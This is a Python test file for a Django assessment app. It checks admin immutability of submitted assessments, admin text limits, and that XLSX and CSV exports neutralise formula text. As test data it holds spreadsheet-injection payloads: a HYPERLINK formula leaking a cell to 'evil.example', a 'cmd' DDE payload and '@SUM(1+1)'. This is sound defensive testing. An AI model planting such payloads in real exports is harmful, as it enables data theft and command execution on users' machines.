"""The admin is one more door: submitted means immutable there too, and texts meet their
limits. Exports neutralise every cell by one rule, headers and legend included."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from assessments.domain.answers import AnswerInput
from assessments.models import Assessment, BusinessUnit, Cycle, Organisation
from assessments.services.answers import answers_save
from assessments.services.signoff import assessment_submit
from tests import factories

from .conftest import logged_in, state

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


@pytest.fixture
def submitted(world):
    answers_save(
        assessment=world["assessment"],
        respondent="lead",
        user=world["lead"],
        questions=world["questions"],
        answers={code: AnswerInput(special="dk") for code in world["questions"]},
    )
    return assessment_submit(assessment=world["assessment"], user=world["lead"], confirmed=True)


def second_framework():
    from assessments.domain.framework_file import parse_framework
    from assessments.services.frameworks import framework_load

    text = factories.SMALL_FRAMEWORK.replace('version: "1"', 'version: "2"')
    return framework_load(spec=parse_framework(text, "small-2.yaml"))[0]


@pytest.fixture
def admin(db):
    return logged_in(factories.user("root", is_staff=True, is_superuser=True))


def test_the_cycle_of_a_submitted_assessment_cannot_be_renamed_or_moved(submitted, admin, world):
    other = second_framework()
    second = factories.organisation("globex")
    before = state()
    url = f"/admin/assessments/cycle/{submitted.cycle_id}/change/"
    page = admin.get(url, follow=True)
    assert (
        "Read-only here: organisation, name, framework, profile. This cycle has a submitted "
        "assessment: its "
        "answers were signed off for this cycle on this framework. Reopen the assessment to "
        "change its answers."
    ) in [str(m) for m in page.context["messages"]]
    response = admin.post(
        url,
        {"organisation": second.pk, "name": "2099-Q1", "framework": other.pk, "is_open": "on"},
    )
    assert response.status_code == 302
    cycle = Cycle.objects.get(pk=submitted.cycle_id)
    assert (cycle.name, cycle.organisation_id, cycle.framework_id) == (
        "2026-Q4",
        world["org"].pk,
        world["framework"].pk,
    )
    assert state() == before


def test_a_unit_with_a_submitted_assessment_cannot_move_to_another_organisation(
    submitted, admin, world
):
    second = factories.organisation("globex")
    url = f"/admin/assessments/businessunit/{world['unit'].pk}/change/"
    response = admin.post(
        url,
        {
            "organisation": second.pk,
            "name": "UK renamed",
            "slug": "moved",
            "region": "",
            "tags": "",
        },
    )
    assert response.status_code == 302
    unit = BusinessUnit.objects.get(pk=world["unit"].pk)
    assert (unit.organisation_id, unit.slug, unit.name) == (world["org"].pk, "uk", "UK renamed")
    assert Assessment.objects.get(pk=submitted.pk).status == "submitted"


def test_an_organisation_with_submitted_assessments_keeps_its_slug(submitted, admin, world):
    url = f"/admin/assessments/organisation/{world['org'].pk}/change/"
    admin.post(url, {"name": "Acme Group", "slug": "renamed", "consultants": []})
    org = Organisation.objects.get(pk=world["org"].pk)
    assert (org.name, org.slug) == ("Acme Group", "acme")


def test_a_draft_cycle_keeps_its_framework_once_it_has_assessments(admin, world):
    second = factories.organisation("globex")
    url = f"/admin/assessments/cycle/{world['cycle'].pk}/change/"
    admin.post(
        url,
        {
            "organisation": second.pk,
            "name": "2026-Q4b",
            "framework": second_framework().pk,
            "is_open": "on",
        },
    )
    cycle = Cycle.objects.get(pk=world["cycle"].pk)
    assert (cycle.name, cycle.organisation_id, cycle.framework_id) == (
        "2026-Q4b",
        world["org"].pk,
        world["framework"].pk,
    )


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        (
            "name",
            "UK\x07",
            "The unit name contains a control character (U+0007) at character 3; remove it.",
        ),
        ("region", "r" * 101, "Ensure this value has at most 100 characters (it has 101)."),
        ("tags", "retail\x00", "Null characters are not allowed."),
    ],
)
def test_admin_texts_meet_their_limits(admin, world, field, value, error):
    data = {"organisation": world["org"].pk, "name": "UK", "slug": "uk", "region": "", "tags": ""}
    response = admin.post(
        f"/admin/assessments/businessunit/{world['unit'].pk}/change/", {**data, field: value}
    )
    assert response.status_code == 200
    assert error in response.context["adminform"].form.errors[field]
    assert BusinessUnit.objects.get(pk=world["unit"].pk).name == "Uk"


# --- exports -----------------------------------------------------------------------------------


def test_the_report_workbook_never_holds_a_formula_built_from_names(submitted, world):
    capability = world["framework"].capabilities.get(code="IDG")
    capability.name = HYPERLINK
    capability.save()
    world["unit"].name = HYPERLINK
    world["unit"].region = "+cmd|' /C calc'!A0"
    world["unit"].save()
    level = world["framework"].levels.get(number=1)
    level.name = "@SUM(1+1)"
    level.save()
    response = logged_in(world["consultant"]).get(
        "/reports/portfolio/report.xlsx?organisation=acme"
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    named = [cell for cell in cells if cell.value == HYPERLINK]
    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
    headers = {cell.parent.title for cell in named if cell.font and cell.font.b}
    assert headers  # the capability's name as a column heading, as text
    assert any("@SUM(1+1)" in str(cell.value) for cell in cells if cell.value)  # the legend


def test_csv_exports_neutralise_formula_text(submitted, world):
    import csv

    from assessments.models import Answer

    Answer.objects.filter(response__respondent="ann", question__code="IDG-FID-1").update(
        comment=HYPERLINK
    )
    response = logged_in(world["consultant"]).get(
        "/reports/portfolio/answers.csv?organisation=acme"
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    comments = {(r["respondent"], r["question_code"]): r["comment"] for r in rows}
    assert comments[("ann", "IDG-FID-1")] == "'" + HYPERLINK
